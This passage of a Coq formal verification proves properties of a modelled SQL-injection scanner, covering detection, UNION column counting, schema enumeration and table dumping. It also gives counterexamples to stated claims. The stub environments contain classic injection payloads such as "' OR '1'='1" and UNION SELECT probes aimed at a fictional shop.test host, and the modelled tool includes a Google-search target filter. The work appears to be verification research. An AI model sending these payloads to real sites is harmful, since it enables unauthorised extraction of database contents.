  - intros Hdet Hnone.
    pose proof (testSQLInjection_stops initialWorld Hfit (detection_some _ Hdet)
                  (discovery_none config u _ Hnone)) as Hstop.
    unfold run. revert Hstop. unfold Runs.
    generalize (testSQLInjection url options initialWorld). intros out ->.
    cbn zeta. cbn [fst snd]. rewrite emits_result, emits_trace. simpl.
    split; [done|]. split; [apply stopEvents_vulnerable|].
    split; [apply stopEvents_extracted | apply stopEvents_requests].
  - intros w p1 p2 p3 rest Hcat Hne Herr Hclean.
    apply Forall_app in Herr as [Herr1 Herr2].
    apply (Hfirst [p1; p2] p3 rest Hcat).
    + intros q Hq. apply unanswered_not_answers, unanswered_answered.
      apply elem_of_cons in Hq as [->|Hq];
        [|apply list_elem_of_singleton in Hq as ->];
        (eapply Forall_impl; [eassumption|]); intros x (d & Hd & He); exists d;
        (split; [done|]); unfold columnHit; by rewrite He.
    + apply answers_answered; [done|]. eapply Forall_impl; [exact Hclean|].
      intros x (d & Hd & He). exists d. split; [done|]. unfold columnHit. by rewrite He.
Qed.

End ColumnCount.

(** ** The scanner: the end-to-end scenario *)

Section Scenario.
Import Scanner.
Local Open Scope js_scope.
Context `{Environment}.
Context (url : string) (u : URL) (Hurl : parseURL url = Some u).

(** The payload of schema enumeration and of the table listing of [mydb], for
    two columns, as they are sent. *)
Definition schemaProbe : string := sanitized (schemaPayload 2).
Definition tableProbe : string := sanitized (tablePayload 2 "mydb").

(** The stub answers schema enumeration with ["mydb::"] ... *)
Definition listsMydb : Prop := answered (λ d, d = "mydb::") (probes u schemaProbe).

(** ... and lists no table for [mydb]. *)
Definition listsNoTable : Prop :=
  Forall (λ x, ∀ d, transport x = Body d → extractListFromResponse d = [])
         (probes u tableProbe).

Definition schemaEvents (x : URL) : list Event := [Request x; Mutate (AddDatabase "mydb")].

Lemma extractDatabaseSchemas_mydb w :
  listsMydb →
  Runs (extractDatabaseSchemas url 2 SCAN_CONFIG) w
       (Log (mkLog "INFO" "Enumerating database schemas...")
        :: flat_map schemaEvents (probes u schemaProbe)) tt.
Proof.
  intros Hstub. unfold extractDatabaseSchemas, log.
  apply (runs_bind _ _ _ [_] _ _ _ (runs_perform _ _)).
  unfold sanitizePayload. rewrite sanitizePayload_fits by (by vm_compute).
  fold (sanitized (schemaPayload 2)). fold schemaProbe.
  unfold Runs, bind at 1, lift, tryCatch, bind at 1, newURL. rewrite Hurl. unfold ret at 1.
  unfold bind at 1, forParams.
  edestruct (forParamsFrom_steady (R := unit) schemaProbe schemaEvents) as [t' ->]; [|done].
  intros param t w' Hin. unfold bind, httpGet, bind, perform. cbn zeta.
  unfold listsMydb, answered in Hstub. rewrite Forall_forall in Hstub.
  destruct (Hstub _ Hin) as (d & -> & ->). unfold ret.
  change (extractListFromResponse "mydb::") with ["mydb"].
  change (filter (λ schema, isUserSchema schema = true) ["mydb"]) with ["mydb"].
  reflexivity.
Qed.

Lemma schemaEvents_databases xs r :
  databases r = [] ∨ databases r = ["mydb"] → xs ≠ [] →
  databases (replay (flat_map schemaEvents xs) r) = ["mydb"].
Proof.
  intros Hr Hne.
  assert (∀ r, databases r = [] ∨ databases r = ["mydb"] →
               databases (replay (flat_map schemaEvents xs) r) =
                 if xs is [] then databases r else ["mydb"]) as Hgen.
  { clear. induction xs as [|x xs IH]; intros r Hr; [done|]. simpl. rewrite IH.
    - destruct xs; [|done]. simpl. by destruct Hr as [-> | ->].
    - simpl. destruct Hr as [-> | ->]; by right. }
  rewrite Hgen by done. by destruct xs.
Qed.

Lemma schemaEvents_keeps {X} (f : SQLInjectionResult → X) xs :
  (∀ schema, keeps f (Mutate (AddDatabase schema))) →
  Forall (keeps f) (flat_map schemaEvents xs).
Proof.
  intros Hf. apply Forall_flat_map, Forall_forall. intros x _.
  constructor; [done|]. constructor; [apply Hf | constructor].
Qed.

Lemma extractDatabaseStructure_nothing w :
  listsNoTable →
  ∃ evs, Runs (extractDatabaseStructure url 2 "mydb" SCAN_CONFIG) w evs tt ∧ Forall silent evs.
Proof.
  intros Hstub. unfold extractDatabaseStructure, log.
  unfold sanitizePayload. rewrite sanitizePayload_fits by (by vm_compute).
  fold (sanitized (tablePayload 2 "mydb")). fold tableProbe.
  unfold Runs, bind at 1, perform, bind at 1, lift, tryCatch, bind at 1, newURL.
  rewrite Hurl. unfold ret at 1, bind at 1, forParams.
  match goal with |- context [forParamsFrom _ _ _ ?b _] => set (body := b) end.
  assert (ProbingOn (probes u tableProbe) tableProbe (λ _, false) [] tt body) as Hbody.
  { intros param t w' Hin. unfold body, bind, httpGet, bind, perform. cbn zeta.
    unfold listsNoTable in Hstub. rewrite Forall_forall in Hstub.
    destruct (transport (setParam param tableProbe t)) as [d|m] eqn:Hd; [|done].
    unfold ret. rewrite (Hstub _ Hin d Hd). reflexivity. }
  set (start := Log (mkLog "INFO" ("Extracting structure for database: " +:+ "mydb"))).
  pose proof (forParamsFrom_scan _ _ _ _ _ (length (searchParams u)) 0 u (emit start w) Hbody)
    as Hscan.
  destruct (scan (λ _, false) _) as [sent|sent message|sent].
  - destruct Hscan as [t' ->]. exists (start :: map Request sent ++ []).
    split; [done|]. constructor; [done|]. rewrite app_nil_r. apply silent_requests.
  - rewrite Hscan.
    exists (start :: map Request sent ++
            [Log (mkLog "ERROR" ("Error extracting structure for " +:+ "mydb" +:+ ": " +:+
                                 message))]).
    split; [unfold perform; simpl; by rewrite emits_app|].
    constructor; [done|]. apply Forall_app. split; [apply silent_requests|by repeat constructor].
  - destruct Hscan as [t' ->]. exists (start :: map Request sent).
    split; [done|]. constructor; [done|]. apply silent_requests.
Qed.

(** The fields the scenario follows through the stages. *)
Definition followed (r : SQLInjectionResult) := (vulnerable r, databases r, tables r).

Definition saved (name : string) (what : string) : list Event :=
  [WriteFile name; Log (mkLog "INFO" (what +:+ name))].

Lemma saveResultsToJSON_runs name w :
  writeFile name = None → Runs (saveResultsToJSON name) w (saved name "Results saved to ") tt.
Proof. intros Hw. unfold Runs, saveResultsToJSON, bind, perform, log. by rewrite Hw. Qed.

Lemma saveResultsToSQL_runs name w :
  writeFile name = None → Runs (saveResultsToSQL name) w (saved name "SQL dump saved to ") tt.
Proof. intros Hw. unfold Runs, saveResultsToSQL, bind, perform, log. by rewrite Hw. Qed.

Lemma dumpAllTables_no_table w :
  tables (result w) = [] →
  Runs (dumpAllTables url 2 SCAN_CONFIG) w
       [Log (mkLog "INFO" "Attempting to dump all tables...")] tt.
Proof.
  intros Ht. unfold Runs, dumpAllTables, bind, log, perform, pLimit, getResult. simpl.
  by rewrite Ht.
Qed.

Lemma extractSystemInfo_runs w :
  ∃ evs, Runs (extractSystemInfo url 2 SCAN_CONFIG) w evs tt ∧ Forall (keeps followed) evs.
Proof.
  destruct (emits_runs (λ ev, Allowed u SCAN_CONFIG ev ∧ infoOnly ev) (λ _, True)
              (extractSystemInfo url 2 SCAN_CONFIG) w) as (evs & [] & Hrun & Hevs & _).
  - eapply emits_weaken; [|by apply extractSystemInfo_emits].
    intros o Ho. apply Ho. intros kp Hin.
    repeat (apply elem_of_cons in Hin as [->|Hin]; [by vm_compute|]).
    by apply elem_of_nil in Hin.
  - exists evs. split; [done|]. eapply Forall_impl; [exact Hevs|].
    intros [| |m| |] [_ Hm]; try done. by destruct m.
Qed.

Lemma followed_emits evs w x :
  followed (result w) = x → Forall (keeps followed) evs → followed (result (emits evs w)) = x.
Proof. intros <- Hk. rewrite emits_result. by apply replay_keeps. Qed.

Lemma followed_silent evs w x :
  followed (result w) = x → Forall silent evs → followed (result (emits evs w)) = x.
Proof.
  intros Hx Hs. apply followed_emits; [done|].
  eapply Forall_impl; [exact Hs | apply silent_keeps].
Qed.

Lemma followed_pushOnly evs w x :
  followed (result w) = x → Forall pushOnly evs → followed (result (emits evs w)) = x.
Proof.
  intros Hx Hs. apply followed_emits; [done|].
  eapply Forall_impl; [exact Hs|]. intros [| |m| |]; try done. by destruct m.
Qed.

(** C1, as amended.  Let the stub answer the requests that carry the first
    detection payload with an error signature, those that carry the first
    column payload with a body containing [error], those that carry the
    second with a body free of it, schema enumeration with ["mydb::"] and
    the table listing of [mydb] with no table, and let the two files be
    written.  Then [testSQLInjection(url)] returns a result with
    [vulnerable = true] and [databases = {"mydb"}]; [findColumnCount] returns
    2, a number that the result object has no property for. *)
Theorem C1_end_to_end p ps c1 c2 cs :
  searchParams u ≠ [] →
  DETECTION_PAYLOADS = p :: ps →
  COLUMN_PAYLOADS = c1 :: c2 :: cs →
  (∀ q, q ∈ DETECTION_PAYLOADS ++ COLUMN_PAYLOADS → Z.of_nat (String.length q) ≤ 1000) →
  answered (λ d, sqlHit d = true) (probes u (sanitized p)) →
  answered (λ d, includes "error" (toLowerCase d) = true) (probes u (sanitized c1)) →
  answered (λ d, includes "error" (toLowerCase d) = false) (probes u (sanitized c2)) →
  listsMydb → listsNoTable → (∀ name, writeFile name = None) →
  ∃ r w, run url noConfig = (Ok r, w) ∧
         vulnerable r = true ∧ databases r = ["mydb"] ∧
         (∀ w0, (findColumnCount url SCAN_CONFIG w0).1 = Ok 2%nat) ∧
         getProperty r "columnCount" = None.
Proof.
  intros Hne Hdet Hcol Hfit T1 T2 T3 T4 T5 T6.
  assert ((detection SCAN_CONFIG u DETECTION_PAYLOADS).1 = true) as Hd.
  { apply (detection_some u noConfig). exists p.
    split; [rewrite Hdet; by left|]. by apply answers_answered. }
  assert ((discovery SCAN_CONFIG u (indexed COLUMN_PAYLOADS)).1 = Some 2%nat) as Hc.
  { rewrite Hcol. apply (discovery_first SCAN_CONFIG u [c1] c2 cs).
    - intros q ->%list_elem_of_singleton. apply unanswered_not_answers, unanswered_answered.
      eapply Forall_impl; [exact T2|]. intros x (d & Hx' & He). exists d. split; [done|].
      unfold columnHit. by rewrite He.
    - apply answers_answered; [done|]. eapply Forall_impl; [exact T3|].
      intros x (d & Hx' & He). exists d. split; [done|].
      unfold columnHit. by rewrite He. }
  assert (∀ w0, findColumnCount url SCAN_CONFIG w0 =
                (Ok 2%nat, emits (discovery SCAN_CONFIG u (indexed COLUMN_PAYLOADS)).2 w0))
    as Hcount.
  { intros w0. rewrite (findColumnCount_run _ u) by
      (done || (intros; apply Hfit, elem_of_app; by right)). by rewrite Hc. }
  pose (J := λ (v : bool) (dbs : list string) (w : World),
               followed (result w) = (v, dbs, [])).
  assert (Reaches (testSQLInjection url noConfig) initialWorld
            (λ r w, r = result w ∧ followed r = (true, ["mydb"], []))) as Hreach.
  { unfold testSQLInjection, Utils.validateUrl. rewrite Hurl. simpl negb. cbn iota.
    change (spread SCAN_CONFIG noConfig) with SCAN_CONFIG.
    apply reaches_tryCatch.
    apply reaches_bind with (mid := λ a w, a = true ∧ J false [] w).
    { eapply reaches_runs.
      - unfold Runs. rewrite (testBasicVulnerability_run _ u) by
          (done || (intros; apply Hfit, elem_of_app; by left)). by rewrite Hd.
      - split; [done|].
        apply followed_pushOnly; [done | apply (detection_pushOnly u noConfig)]. }
    intros ? w1 [-> J1]. simpl negb. cbn iota.
    apply reaches_bind with (mid := λ _ w, J true [] w).
    { eapply reaches_runs; [apply runs_perform|]. unfold J, followed in *. simpl.
      by injection J1 as _ -> ->. }
    intros _ w2 J2.
    apply reaches_bind with (mid := λ _ w, J true [] w).
    { eapply reaches_runs; [apply runs_perform|]. apply J2. }
    intros _ w3 J3.
    apply reaches_bind with (mid := λ a w, a = 2%nat ∧ J true [] w).
    { eapply reaches_runs; [apply Hcount|]. split; [done|].
      apply followed_silent; [done | apply discovery_silent]. }
    intros ? w4 [-> J4]. rewrite bool_decide_eq_false_2 by lia.
    apply reaches_bind with (mid := λ _ w, J true [] w).
    { eapply reaches_runs; [apply runs_perform|]. apply J4. }
    intros _ w5 J5.
    apply reaches_bind with (mid := λ _ w, J true ["mydb"] w).
    { destruct (extractSystemInfo_runs w5) as (evsI & HrunI & HevsI).
      eapply reaches_runs.
      - eapply runs_awaitAll_cons; [exact HrunI|].
        eapply runs_awaitAll_cons; [by apply extractDatabaseSchemas_mydb|].
        apply runs_awaitAll_nil.
      - pose proof (followed_emits _ _ _ J5 HevsI) as JI.
        unfold J, followed in *. rewrite app_nil_r, emits_app, emits_cons, !emits_result.
        injection JI as Hv Hdb Ht. cbn [emit result applyEvent].
        rewrite schemaEvents_databases;
          [ | left; exact Hdb | by destruct (probes_nonempty u schemaProbe Hne) as (?&?&->)].
        rewrite !replay_keeps by (by apply schemaEvents_keeps).
        by rewrite Hv, Ht. }
    intros _ w6 J6.
    apply reaches_bind with (mid := λ _ w, J true ["mydb"] w).
    { eapply reaches_runs; [by apply runs_pLimit|]. apply J6. }
    intros _ w7 J7.
    apply reaches_bind with (mid := λ r w, databases r = ["mydb"] ∧ J true ["mydb"] w).
    { eapply reaches_runs; [apply runs_getResult|]. split; [|apply J7].
      unfold J, followed in J7. by injection J7. }
    intros r w8 [Hr J8]. rewrite Hr. cbn [map].
    apply reaches_bind with (mid := λ _ w, J true ["mydb"] w).
    { destruct (extractDatabaseStructure_nothing w8 T5) as (evsS & HrunS & HevsS).
      eapply reaches_runs.
      - eapply runs_awaitAll_cons; [exact HrunS | apply runs_awaitAll_nil].
      - rewrite app_nil_r. by apply followed_silent. }
    intros _ w9 J9.
    apply reaches_bind with (mid := λ _ w, J true ["mydb"] w).
    { eapply reaches_runs.
      - apply dumpAllTables_no_table. unfold J, followed in J9. by injection J9.
      - apply followed_silent; [done | by repeat constructor]. }
    intros _ w10 J10. cbn zeta.
    apply reaches_bind with (mid := λ _ w, J true ["mydb"] w).
    { eapply reaches_runs.
      - eapply runs_awaitAll_cons; [by apply saveResultsToJSON_runs|].
        eapply runs_awaitAll_cons; [by apply saveResultsToSQL_runs|].
        apply runs_awaitAll_nil.
      - apply followed_silent; [done | by repeat constructor]. }
    intros _ w11 J11.
    eapply reaches_runs; [apply runs_getResult|]. split; [done | apply J11]. }
  destruct Hreach as (r & w & Hrun & -> & Hf).
  exists (result w), w. unfold followed in Hf. injection Hf as Hv Hdb _.
  split; [exact Hrun|]. split; [done|]. split; [done|].
  split; [intros w0; by rewrite Hcount | done].
Qed.

End Scenario.

(** ** The scanner on concrete stubs *)

Section ScannerExamples.
Import Scanner.

(** The value of a parameter of a request, [""] when it has none. *)
Definition valueOf (name : string) (x : URL) : string :=
  default "" (mapGet name (searchParams x)).

(** The number of parameters of a request that hold [v]. *)
Definition carrying (v : string) (x : URL) : nat :=
  length (filter (λ p, p.2 = v) (searchParams x)).

Definition oneParam : string := "http://shop.test/item.php?id=1".
Definition twoParams : string := "http://shop.test/item.php?id=1&cat=2".

Definition shop (sp : SearchParams) : URL := mkURL "http://shop.test" "shop.test" "/item.php" sp.

(** *** A stub for the end-to-end scenario *)

Definition mydbTransport (x : URL) : Response :=
  let v := valueOf "id" x in
  if bool_decide (v = "' OR '1'='1") then Body "You have an error in your SQL syntax"
  else if bool_decide (v = "' UNION ALL SELECT NULL--") then Body "error: wrong column count"
  else if bool_decide (v = "' UNION ALL SELECT NULL,NULL--") then Body "<html>ok</html>"
  else if includes "schema_name" v then Body "mydb::"
  else Body "".

Definition mydbStub : Environment := {|
  urlParser := exampleParser;
  DETECTION_PAYLOADS := ["' OR '1'='1"; "' OR 1=1--"];
  COLUMN_PAYLOADS := ["' UNION ALL SELECT NULL--"; "' UNION ALL SELECT NULL,NULL--";
                      "' UNION ALL SELECT NULL,NULL,NULL--"];
  transport := mydbTransport;
  writeFile := λ _, None;
  formatTimestamp := "2025-06-15T17-43-00-000Z"
|}.

Lemma C1_end_to_end_witness :
  ∃ r w, run (H := mydbStub) oneParam noConfig = (Ok r, w) ∧
         vulnerable r = true ∧ databases r = ["mydb"] ∧
         (∀ w0, (findColumnCount (H := mydbStub) oneParam SCAN_CONFIG w0).1 = Ok 2%nat) ∧
         getProperty r "columnCount" = None.
Proof.
  apply (C1_end_to_end (H := mydbStub) oneParam (shop [("id", "1")]) eq_refl
           "' OR '1'='1" ["' OR 1=1--"]
           "' UNION ALL SELECT NULL--" "' UNION ALL SELECT NULL,NULL--"
           ["' UNION ALL SELECT NULL,NULL,NULL--"]).
  - discriminate.
  - reflexivity.
  - reflexivity.
  - intros q Hq. repeat (apply elem_of_cons in Hq as [->|Hq]; [by vm_compute|]).
    by apply elem_of_nil in Hq.
  - repeat constructor. eexists. split; reflexivity.
  - repeat constructor. eexists. split; reflexivity.
  - repeat constructor. eexists. split; reflexivity.
  - repeat constructor. eexists. split; reflexivity.
  - repeat constructor. intros d [= <-]. reflexivity.
  - reflexivity.
Defined.

(** The claim C1 as it stands asks for [columnCount = 2] in the result: on
    this stub the scan returns a vulnerable result with the database [mydb],
    and the result has no property of that name. *)
Lemma C1_counterexample :
  match (run (H := mydbStub) oneParam noConfig).1 with
  | Ok r =>
      vulnerable r = true ∧ databases r = ["mydb"] ∧
      getProperty r "columnCount" = None ∧
      getProperty r "columnCount" ≠ Some (PNumber 2)
  | Throw _ => False
  end.
Proof. vm_compute. repeat split; discriminate. Qed.

(** *** A stub for detection

    The first payload fails at the transport; the second one is reported
    with an error signature, in mixed case, once the parameter [cat] holds
    it. *)

Definition detectTransport (x : URL) : Response :=
  if bool_decide (valueOf "id" x = "' OR 1=1--") then Failure "socket hang up"
  else if bool_decide (valueOf "cat" x = "' OR '1'='1'--")
       then Body "You have an ERROR in your SQL Syntax"
  else Body "Welcome".

Definition detectStub : Environment := {|
  urlParser := exampleParser;
  DETECTION_PAYLOADS := ["' OR 1=1--"; "' OR '1'='1';--"];
  COLUMN_PAYLOADS := [];
  transport := detectTransport;
  writeFile := λ _, None;
  formatTimestamp := "2025-06-15T17-43-00-000Z"
|}.

(** C4 on the detection stub: the failure of the first payload is logged, the
    second payload is tried and found. *)
Lemma C4_detection_witness :
  let out := testBasicVulnerability (H := detectStub) twoParams SCAN_CONFIG initialWorld in
  out.1 = Ok true ∧
  result out.2 = applyMutation (PushSuccessfulPayload "' OR '1'='1'--") emptyResult ∧
  detectionWarning "' OR 1=1--" "socket hang up" ∈ trace out.2.
Proof.
  destruct (C4_detection (H := detectStub) twoParams (shop [("id", "1"); ("cat", "2")])
              SCAN_CONFIG initialWorld eq_refl) as (Hfirst & _ & Hfail & _).
  { intros q Hq. repeat (apply elem_of_cons in Hq as [->|Hq]; [by vm_compute|]).
    by apply elem_of_nil in Hq. }
  assert (breaks (H := detectStub) sqlHit
            (probes (shop [("id", "1"); ("cat", "2")]) (sanitized "' OR 1=1--"))
            "socket hang up") as Hbreaks.
  { exists [], (shop [("id", "' OR 1=1--"); ("cat", "2")]),
           [shop [("id", "' OR 1=1--"); ("cat", "' OR 1=1--")]].
    split; [reflexivity|]. split; [apply unanswered_nil | reflexivity]. }
  destruct (Hfirst ["' OR 1=1--"] "' OR '1'='1';--" [] eq_refl) as [Hout Hres].
  - intros q Hq%list_elem_of_singleton (before & x & after & data & Hp & _ & Hbody & _).
    subst q. assert (x ∈ before ++ x :: after) as Hin by (apply elem_of_app; right; left).
    rewrite <- Hp in Hin.
    repeat (apply elem_of_cons in Hin as [->|Hin]; [discriminate Hbody|]).
    by apply elem_of_nil in Hin.
  - exists [shop [("id", "' OR '1'='1'--"); ("cat", "2")]],
           (shop [("id", "' OR '1'='1'--"); ("cat", "' OR '1'='1'--")]), [],
           "You have an ERROR in your SQL Syntax".
    split; [reflexivity|]. split; [|split; reflexivity].
    intros x Hx%list_elem_of_singleton. subst x. by exists "Welcome".
  - split; [exact Hout|]. split; [exact Hres|].
    apply (Hfail [] "' OR 1=1--" ["' OR '1'='1';--"] "socket hang up" eq_refl).
    + intros q Hq. by apply elem_of_nil in Hq.
    + exact Hbreaks.
Defined.

(** The claim C4 as it stands has every request carry the payload in exactly
    one parameter and the payload recorded as it is in the catalog: on the
    detection stub the request that is answered with the signature carries
    the payload in both parameters, and the payload recorded is the
    sanitized one, which is not in the catalog. *)
Lemma C4_counterexample :
  let out := testBasicVulnerability (H := detectStub) twoParams SCAN_CONFIG initialWorld in
  let hit := shop [("id", "' OR '1'='1'--"); ("cat", "' OR '1'='1'--")] in
  out.1 = Ok true ∧
  Request hit ∈ trace out.2 ∧
  transport (Environment := detectStub) hit = Body "You have an ERROR in your SQL Syntax" ∧
  carrying "' OR '1'='1'--" hit = 2%nat ∧
  successfulPayloads (result out.2) = ["' OR '1'='1'--"] ∧
  "' OR '1'='1'--" ∉ DETECTION_PAYLOADS (Environment := detectStub).
Proof.
  vm_compute. repeat split.
  - do 3 right. left.
  - intros Hin. repeat (apply elem_of_cons in Hin as [Hin|Hin]; [discriminate Hin|]).
    by apply elem_of_nil in Hin.
Qed.
(** *** A stub for the column count

    An error signature for the probes of arity 1 and 2, a clean body for
    arity 3. *)

Definition arityTransport (x : URL) : Response :=
  let v := valueOf "id" x in
  if bool_decide (v = "' UNION ALL SELECT NULL,NULL,NULL--") then Body "<html>3 rows</html>"
  else Body "Error: the used SELECT statements have a different number of columns".

Definition arityStub : Environment := {|
  urlParser := exampleParser;
  DETECTION_PAYLOADS := ["' OR '1'='1"];
  COLUMN_PAYLOADS := ["' UNION ALL SELECT NULL--"; "' UNION ALL SELECT NULL,NULL--";
                      "' UNION ALL SELECT NULL,NULL,NULL--";
                      "' UNION ALL SELECT NULL,NULL,NULL,NULL--"];
  transport := arityTransport;
  writeFile := λ _, None;
  formatTimestamp := "2025-06-15T17-43-00-000Z"
|}.

(** C5 on the column-count stub. *)
Lemma C5_column_count_witness :
  (findColumnCount (H := arityStub) oneParam SCAN_CONFIG initialWorld).1 = Ok 3%nat.
Proof.
  destruct (C5_column_count (H := arityStub) oneParam (shop [("id", "1")]) eq_refl noConfig)
    as (_ & _ & _ & _ & Hthree).
  { intros q Hq. repeat (apply elem_of_cons in Hq as [->|Hq]; [by vm_compute|]).
    by apply elem_of_nil in Hq. }
  apply (Hthree initialWorld "' UNION ALL SELECT NULL--" "' UNION ALL SELECT NULL,NULL--"
           "' UNION ALL SELECT NULL,NULL,NULL--" ["' UNION ALL SELECT NULL,NULL,NULL,NULL--"]
           eq_refl).
  - discriminate.
  - repeat constructor; eexists; split; reflexivity.
  - repeat constructor; eexists; split; reflexivity.
Defined.

(** *** A stub on which a later probe replaces the rows of a table

    The table [users] is listed through the parameter [id]; the dump probe
    gives [alice] with the payload in [id] alone and [bob] with the payload
    in both parameters. *)

Definition replacingTransport (x : URL) : Response :=
  let a := valueOf "id" x in
  let b := valueOf "cat" x in
  if includes "CONCAT_WS" b then Body "bob::"
  else if includes "table_name" b then Body ""
  else if includes "CONCAT_WS" a then Body "alice::"
  else if includes "column_name" a then Body "name::"
  else if includes "table_name" a then Body "users::"
  else if includes "schema_name" a then Body "shop::"
  else if includes "UNION ALL" a then Body "<html>ok</html>"
  else if bool_decide (a = "' OR '1'='1") then Body "You have an error in your SQL syntax"
  else Body "".

Definition replacingStub : Environment := {|
  urlParser := exampleParser;
  DETECTION_PAYLOADS := ["' OR '1'='1"];
  COLUMN_PAYLOADS := ["' UNION ALL SELECT NULL--"];
  transport := replacingTransport;
  writeFile := λ _, None;
  formatTimestamp := "2025-06-15T17-43-00-000Z"
|}.

(** The claim C6 as it stands has no probe replace an entry of an earlier
    probe of its stage: on this stub the second dump probe replaces the rows
    that the first one stored for [users]. *)
Lemma C6_counterexample :
  let w := (run (H := replacingStub) twoParams noConfig).2 in
  let earlier := replay (take 32 (trace w)) emptyResult in
  nth_error (trace w) 31 = Some (Mutate (SetTableData "users" ["alice"])) ∧
  nth_error (trace w) 33 = Some (Mutate (SetTableData "users" ["bob"])) ∧
  mapGet "users" (tableData earlier) = Some ["alice"] ∧
  mapGet "users" (tableData (result w)) = Some ["bob"] ∧
  ¬ (∀ table rows, mapGet table (tableData earlier) = Some rows →
                   mapGet table (tableData (result w)) = Some rows).
Proof.
  vm_compute. repeat split. intros Hkept. specialize (Hkept "users" ["alice"] eq_refl).
  discriminate Hkept.
Qed.

End ScannerExamples.

(** * More of the code

    The rest of the development covers code that the statements above do not
    reach: the remaining methods of the store, the helpers of [src/utils.js],
    the readers of responses, the ways a scan can end, and the driver with
    the filter of [searchGoogle]. *)

(** ** The URL store: normalization, statistics, vulnerable URLs, clean-up *)

Section StoreMore.
Import UrlStore.
Context `{UrlParser}.

Lemma normalizeUrl_same url url' u u' :
  parseURL url = Some u → parseURL url' = Some u' →
  origin u = origin u' → pathname u = pathname u' →
  normalizeUrl url = normalizeUrl url'.
Proof.
  intros Hu Hu' Ho Hp. rewrite (normalizeUrl_parsed _ _ Hu), (normalizeUrl_parsed _ _ Hu').
  by rewrite Ho, Hp.
Qed.

(** X1.  [normalizeUrl] keeps the origin and the path of a URL and nothing of
    its query, tracking parameter or not: two URLs that differ in their
    queries only have the same normalized form, and once one of them has been
    marked as tested the admission check answers true for the other, whatever
    the store has been asked to do in between. *)
Theorem X1_query_ignored url url' u u' now s ops now' :
  parseURL url = Some u → parseURL url' = Some u' →
  origin u = origin u' → pathname u = pathname u' →
  normalizeUrl url = normalizeUrl url' ∧
  isUrlTested now' url' (performAll ops (markUrlAsTested now url s)) =
    (true, performAll ops (markUrlAsTested now url s)).
Proof.
  intros Hu Hu' Ho Hp. pose proof (normalizeUrl_same _ _ _ _ Hu Hu' Ho Hp) as Hn.
  split; [done|]. apply isUrlTested_known. rewrite <- Hn.
  apply performAll_tested, markUrlAsTested_tested.
Qed.

(** The two maps keyed by domain have the same keys. *)
Definition inStep (s : URLStore) : Prop :=
  dom (seenDomains s) = dom (lastTestedTime s).

Lemma isUrlTested_inStep now url s : inStep s → inStep (isUrlTested now url s).2.
Proof.
  intros Hs.
  destruct (isUrlTested_cases now url s) as [-> | [(-> & _) | (d & ps & _ & _ & _ & _ & _ & ->)]];
    [done | done |].
  unfold inStep, reset in *. simpl. rewrite !dom_insert_L. by rewrite Hs.
Qed.

Lemma markUrlAsTested_inStep now url s : inStep s → inStep (markUrlAsTested now url s).
Proof.
  intros Hs. unfold markUrlAsTested.
  destruct (truthy (getDomain url)) as [domain|]; [|done].
  unfold inStep in *. simpl. rewrite !dom_insert_L.
  destruct (seenDomains s !! domain) eqn:E; [by rewrite Hs|].
  by rewrite dom_insert_L, Hs, (assoc_L (∪)), (idemp_L (∪)).
Qed.

Lemma cleanupOldEntries_inStep now s : inStep s → inStep (cleanupOldEntries now s).
Proof.
  unfold inStep, cleanupOldEntries. simpl. intros Hs. apply set_eq. intros d.
  rewrite !elem_of_dom. unfold is_Some.
  setoid_rewrite map_lookup_filter_Some. simpl.
  assert (is_Some (seenDomains s !! d) ↔ is_Some (lastTestedTime s !! d)) as Hd.
  { by rewrite <- !elem_of_dom, Hs. }
  unfold is_Some in Hd. split; intros (x & Hx & Hne).
  - destruct (proj1 Hd (ex_intro _ x Hx)) as [t Ht]. eauto.
  - destruct (proj2 Hd (ex_intro _ x Hx)) as [t Ht]. eauto.
Qed.

Lemma perform_inStep op s : inStep s → inStep (perform op s).
Proof.
  destruct op; simpl;
    auto using isUrlTested_inStep, markUrlAsTested_inStep, cleanupOldEntries_inStep.
Qed.

Lemma performAll_inStep ops s : inStep s → inStep (performAll ops s).
Proof.
  revert s. induction ops as [|op ops IH]; intros s Hs; simpl; [done|].
  by apply IH, perform_inStep.
Qed.

(** X2.  In a store created without a state file, so that its constructor
    loads nothing, and used through its methods, a domain has a set of paths
    in [seenDomains] exactly when it has a time in [lastTestedTime]: the
    admission check, the commit and the clean-up write to both maps or to
    neither. *)
Theorem X2_domain_maps_in_step cfg ops d :
  stateFile cfg = None →
  is_Some (seenDomains (performAll ops (new cfg)) !! d) ↔
  is_Some (lastTestedTime (performAll ops (new cfg)) !! d).
Proof.
  intros _. rewrite <- !elem_of_dom.
  by rewrite (performAll_inStep ops (new cfg) eq_refl).
Qed.

(** *** Statistics *)

Lemma perform_vulnerable op s url :
  is_Some (vulnerableUrls s !! url) → is_Some (vulnerableUrls (perform op s) !! url).
Proof.
  destruct op as [now u|now u|u payload|now]; simpl.
  - destruct (isUrlTested_cases now u s)
      as [-> | [(-> & _) | (d & ps & _ & _ & _ & _ & _ & ->)]]; done.
  - unfold markUrlAsTested. by case_match.
  - intros Hin. unfold addVulnerableUrl. simpl.
    assert (is_Some (match vulnerableUrls s !! normalizeUrl u with
                     | Some _ => vulnerableUrls s
                     | None => <[normalizeUrl u := []]> (vulnerableUrls s)
                     end !! url)) as Hin'.
    { destruct (vulnerableUrls s !! normalizeUrl u); [done|].
      rewrite lookup_insert_is_Some. destruct (decide (normalizeUrl u = url)); auto. }
    case_bool_decide; [done|].
    rewrite lookup_insert_is_Some. destruct (decide (normalizeUrl u = url)); auto.
  - done.
Qed.

(** X3.  What [getStats] reports of a store created without a state file and
    used through its methods: the domains tested recently are never more than
    the domains seen, and no method makes the number of tested URLs or the
    number of vulnerable URLs go down. *)
Theorem X3_stats cfg ops op now now' :
  stateFile cfg = None →
  let s := performAll ops (new cfg) in
  (recentlyTestedDomains (getStats now s) ≤ uniqueDomains (getStats now s))%nat ∧
  (totalTested (getStats now s) ≤ totalTested (getStats now' (perform op s)))%nat ∧
  (totalVulnerable (getStats now s) ≤ totalVulnerable (getStats now' (perform op s)))%nat.
Proof.
  intros _ s. simpl. split; [|split].
  - etrans; [apply map_size_filter|].
    rewrite <- !size_dom. unfold s.
    by rewrite (performAll_inStep ops (new cfg) eq_refl).
  - apply subseteq_size, perform_tested.
  - rewrite <- !size_dom. apply subseteq_size. intros url.
    rewrite !elem_of_dom. apply perform_vulnerable.
Qed.

(** *** Vulnerable URLs *)

Lemma addVulnerableUrl_lookup url payload s :
  vulnerableUrls (addVulnerableUrl url payload s) !! normalizeUrl url =
    Some (let payloads := default [] (vulnerableUrls s !! normalizeUrl url) in
          if bool_decide (payload ∈ payloads) then payloads else payloads ++ [payload]).
Proof.
  unfold addVulnerableUrl. simpl.
